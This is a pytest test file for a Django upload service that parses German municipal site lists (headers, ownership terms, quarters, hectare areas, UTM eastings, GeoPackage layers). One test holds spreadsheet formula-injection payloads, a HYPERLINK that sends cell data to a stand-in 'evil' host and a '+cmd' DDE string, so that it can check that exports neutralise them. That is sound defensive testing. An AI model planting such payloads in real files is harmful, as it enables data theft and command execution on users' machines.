"""Partner files as the QA pass wrote them (other offices' words than the corpus): header
qualifiers, "städt.", quarters written "Q3/2027", areas with their own unit, German digit
groups in XLSX/GIS text cells and Rechtswerte with the UTM zone in front."""

import datetime as dt

import openpyxl
import pytest
from django.contrib.gis.geos import Point

from accounts.models import User
from properties.services.upload import reading, sites_upload_plan
from properties.services.upload import vocabulary as vocab
from tests.factories import PartnerOrganisationFactory, UserFactory


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("Nutzungsart lt. B-Plan", "planning_category"),
        ("Nutzungsart laut Bebauungsplan", "planning_category"),
        ("Grundstücksfläche gem. Kataster (qm)", "gross_area_m2"),
        ("Standort", "title"),
    ],
)
def test_qualified_headers(header, field):
    assert vocab.read_header(header).field == field


@pytest.mark.parametrize(
    ("field", "value", "code"),
    [
        ("ownership", "städt.", "municipal"),
        ("ownership", "Städt. Grundstück", "municipal"),
        ("broadband", "nicht vorhanden", "none"),
    ],
)
def test_qa_values(field, value, code):
    assert vocab.parse_choice(field, value) == code


@pytest.mark.parametrize(
    ("value", "expected"),
    [("Q3/2027", dt.date(2027, 7, 1)), ("Q1-2028", dt.date(2028, 1, 1))],
)
def test_quarters_with_a_separator(value, expected):
    assert vocab.parse_date(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("3,4 ha", (3.4, 10_000.0)),
        ("ca. 1,2 ha", (1.2, 10_000.0)),
        ("12.500 m²", (12_500, 1.0)),
        ("12.500", (12_500, None)),
        (8000, (8000, None)),
    ],
)
def test_areas_with_their_own_unit(value, expected):
    assert vocab.parse_area_unit(value, "gross_area_m2", german=True) == expected


def test_zone_prefixed_eastings():
    assert reading._without_zone(32_380_000.5, 32) == 380_000.5
    assert reading._without_zone(380_000.5, 32) == 380_000.5


@pytest.fixture
def organisation(essen):
    return PartnerOrganisationFactory(municipalities=[essen])


@pytest.fixture
def partner(organisation):
    return UserFactory(role=User.Role.PARTNER, organisation=organisation)


def _centre(essen) -> Point:
    return essen.geom.buffer(-1500).point_on_surface


def test_xlsx_text_cells_with_german_digit_groups(tmp_path, essen, organisation, partner):
    centre = _centre(essen).transform(4326, clone=True)
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["B1"] = "Gewerbeflächen – Stand 2026"
    sheet.merge_cells("B1:J1")
    headers = [
        "Lfd. Nr.",
        "Bezeichnung",
        "Grundstücksfläche in qm",
        "Planrecht",
        "Nutzungsart lt. B-Plan",
        "Eigentümer/in",
        "Flächenart",
        "verfügbar",
        "lon",
        "lat",
    ]
    for column, header in enumerate(headers, start=2):
        sheet.cell(row=3, column=column, value=header)
    values = [
        "1",
        "Am Hafen",
        "ca. 40.000",
        "rechtsverbindlich",
        "GE",
        "städt.",
        "Grundstück",
        "Q3/2027",
        centre.x,
        centre.y,
    ]
    for column, value in enumerate(values, start=2):
        sheet.cell(row=4, column=column, value=value)
    path = tmp_path / "liste.xlsx"
    workbook.save(path)

    report = sites_upload_plan(path=path, organisation=organisation, acting_user=partner)

    (row,) = report.rows
    assert row.action == "create", row.messages
    assert row.values["gross_area_m2"] == 40_000  # not 40 m²
    assert row.values["ownership"] == "municipal"
    assert row.values["planning_category"] == "GE"
    assert row.values["available_from"] == "2027-07-01"


def test_csv_rechtswert_with_zone_and_hectares(tmp_path, essen, organisation, partner):
    centre = _centre(essen).transform(25832, clone=True)
    easting = f"32{centre.x:.1f}".replace(".", ",")
    northing = f"{centre.y:.1f}".replace(".", ",")
    path = tmp_path / "liste.csv"
    path.write_text(
        "Objekt-Nr.;Standort;Fläche (m²);Bebauungsplan;Gebietsart;Eigentum;Art;Rechtswert;Hochwert\n"
        f"H-1;Am Westhafen;3,4 ha;rechtskräftig;GE;Stadt Essen;Grundstück;{easting};{northing}\n",
        encoding="utf-8",
    )

    report = sites_upload_plan(path=path, organisation=organisation, acting_user=partner)

    (row,) = report.rows
    assert row.action == "create", row.messages
    assert row.values["title"] == "Am Westhafen"
    assert row.values["gross_area_m2"] == 34_000


FORMULAS = ['=HYPERLINK("http://evil/?x="&A1;"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_file_has_no_live_formulas(tmp_path, organisation, partner, suffix):
    from properties.services.upload.rejected import upload_rejected_rows_file

    rows = [["=ID1", FORMULAS[0], FORMULAS[1], FORMULAS[2], "7,2", "51,5"]]
    headers = ["Nr", "Bezeichnung", "Gebietsart", "Eigentum", "lon", "lat"]
    path = tmp_path / f"liste{suffix}"
    if suffix == ".csv":
        path.write_text(
            "\n".join(";".join(f'"{c}"' if ";" in c else c for c in r) for r in [headers, *rows]),
            encoding="utf-8",
        )
    else:
        workbook = openpyxl.Workbook()
        for r in [headers, *rows]:
            workbook.active.append(r)
        workbook.save(path)
    report = sites_upload_plan(path=path, organisation=organisation, acting_user=partner)
    assert report.rows[0].action == "reject"

    content, _type, _name = upload_rejected_rows_file(path=path, report=report, filename=path.name)

    if suffix == ".csv":
        import csv
        import io

        cells = [
            c
            for r in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
            for c in r
        ]
        values = cells
    else:
        import io

        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        values = [c.value for r in sheet.iter_rows() for c in r if c.value is not None]
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "@"))]
    assert "'" + FORMULAS[1] in values


def test_geopackage_with_a_boundary_layer_reads_the_sites_layer(
    tmp_path, essen, organisation, partner
):
    import json
    import subprocess

    centre = _centre(essen).transform(25832, clone=True)
    x, y = centre.x, centre.y
    ring = [[x, y], [x + 150, y], [x + 150, y + 100], [x, y + 100], [x, y]]
    crs = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::25832"}}
    sites = {
        "type": "FeatureCollection",
        "crs": crs,
        "features": [
            {
                "type": "Feature",
                "properties": {
                    "flaechen_id": "RE-1",
                    "bezeichnung": "Blumenthal",
                    "bplan": "rechtskräftig",
                    "gebiet": "GI",
                    "eigentum": "städtisch",
                    "art": "Grundstück",
                },
                "geometry": {"type": "Polygon", "coordinates": [ring]},
            }
        ],
    }
    boundary = {
        "type": "FeatureCollection",
        "crs": crs,
        "features": [
            {
                "type": "Feature",
                "properties": {"name": "Stadtgrenze"},
                "geometry": {"type": "LineString", "coordinates": [[x, y], [x + 500, y + 500]]},
            }
        ],
    }
    path = tmp_path / "flaechen.gpkg"
    for name, collection, extra in (("flaechen", sites, []), ("grenze", boundary, ["-update"])):
        source = tmp_path / f"{name}.geojson"
        source.write_text(json.dumps(collection), encoding="utf-8")
        subprocess.run(
            ["ogr2ogr", *extra, "-f", "GPKG", "-nln", name, str(path), str(source)], check=True
        )

    report = sites_upload_plan(path=path, organisation=organisation, acting_user=partner)

    (row,) = report.rows
    assert row.action == "create", row.messages
    assert any("flaechen" in note for note in report.notes)
